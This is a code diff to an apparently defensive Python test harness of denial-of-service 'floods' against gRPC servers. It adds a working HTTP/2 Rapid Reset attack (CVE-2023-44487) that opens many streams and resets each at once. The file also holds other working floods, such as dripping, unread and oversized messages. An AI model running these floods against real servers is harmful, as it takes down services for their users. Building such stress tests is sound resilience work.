@@ -5,6 +5,7 @@ They are started in a thread while somebody watches a well-behaved client: ``Flo
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import socket
 import struct
@@ -119,6 +120,36 @@ def unread_replies(address: str, *, path: str = LIST_VARIABLES, **options: objec
     return _held_calls(address, path, struct.pack(">BI", 0, 0), window_bytes=0, **options)  # type: ignore[arg-type]
 
 
+def reset_calls(
+    address: str,
+    *,
+    number: int = 1_000_000,
+    time_s: float = TIME_S,
+    begun: threading.Event | None = None,
+    stop: threading.Event | None = None,
+) -> int:
+    """Makes calls on one connection and resets each at once (CVE-2023-44487); returns how many."""
+    stop = stop or threading.Event()
+    block, cancel = _call_headers(address, EXCHANGE), struct.pack(">I", 8)
+    ends_s = time.monotonic() + time_s
+    reset = 0
+    while reset < number and time.monotonic() < ends_s and not stop.is_set():
+        with contextlib.suppress(ConnectionError), _connected(address, 65_535) as sock:
+            stream = 1
+            while reset < number and time.monotonic() < ends_s and not stop.is_set():
+                calls = range(stream, stream + 200, 2)
+                sock.sendall(b"".join([_frame(1, 4, each, block) + _frame(3, 0, each, cancel) for each in calls]))
+                reset += len(calls)
+                stream = calls.stop
+                _tell(begun)
+                sock.setblocking(False)
+                with contextlib.suppress(BlockingIOError):
+                    while sock.recv(65_536):
+                        pass
+                sock.settimeout(_CALL_S)
+    return reset
+
+
 def messages_without_meaning(
     address: str,
     *,
@@ -197,6 +228,7 @@ FLOODS: Final[dict[str, Callable[[str], int]]] = {
     "140 silent hellos over gRPC": silent_hellos,
     "140 dripping gRPC messages": dripping_messages,
     "140 unread gRPC replies": unread_replies,
+    "gRPC calls that are reset at once": reset_calls,
     "24 gRPC messages of 60 MiB without meaning": messages_without_meaning,
     "3 million operations in a header": many_operations,
     "10,000 hellos": hellos,
@@ -215,25 +247,9 @@ class RawCall:
     """
 
     def __init__(self, address: str, path: str, *, window_bytes: int = 65_535):
-        host, _, port = _checked(address).rpartition(":")
-        self._socket = socket.create_connection((host.strip("[]"), int(port)), timeout=_CALL_S)
+        self._socket = _connected(address, window_bytes)
         self._received = bytearray()
-        headers = {
-            ":method": "POST",
-            ":scheme": "http",
-            ":path": path,
-            ":authority": address,
-            "te": "trailers",
-            "content-type": "application/grpc",
-            "grpc-timeout": f"{_CALL_S:.0f}S",
-        }
-        block = b"".join([b"\0" + _text(name) + _text(value) for name, value in headers.items()])
-        self._socket.sendall(
-            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-            + _frame(4, 0, 0, struct.pack(">HI", 4, window_bytes))
-            + _frame(4, 1, 0, b"")
-            + _frame(1, 4, 1, block)
-        )
+        self._socket.sendall(_frame(1, 4, 1, _call_headers(address, path)))
 
     def __enter__(self) -> Self:
         return self
@@ -260,6 +276,28 @@ class RawCall:
         except OSError:
             return True
         return True
+
+
+def _connected(address: str, window_bytes: int) -> socket.socket:
+    """A connection that has begun as HTTP/2 does."""
+    host, _, port = _checked(address).rpartition(":")
+    sock = socket.create_connection((host.strip("[]"), int(port)), timeout=_CALL_S)
+    settings = _frame(4, 0, 0, struct.pack(">HI", 4, window_bytes))
+    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + _frame(4, 1, 0, b""))
+    return sock
+
+
+def _call_headers(address: str, path: str) -> bytes:
+    headers = {
+        ":method": "POST",
+        ":scheme": "http",
+        ":path": path,
+        ":authority": address,
+        "te": "trailers",
+        "content-type": "application/grpc",
+        "grpc-timeout": f"{_CALL_S:.0f}S",
+    }
+    return b"".join([b"\0" + _text(name) + _text(value) for name, value in headers.items()])
 
 
 def _kinds(data: bytes) -> set[int]:
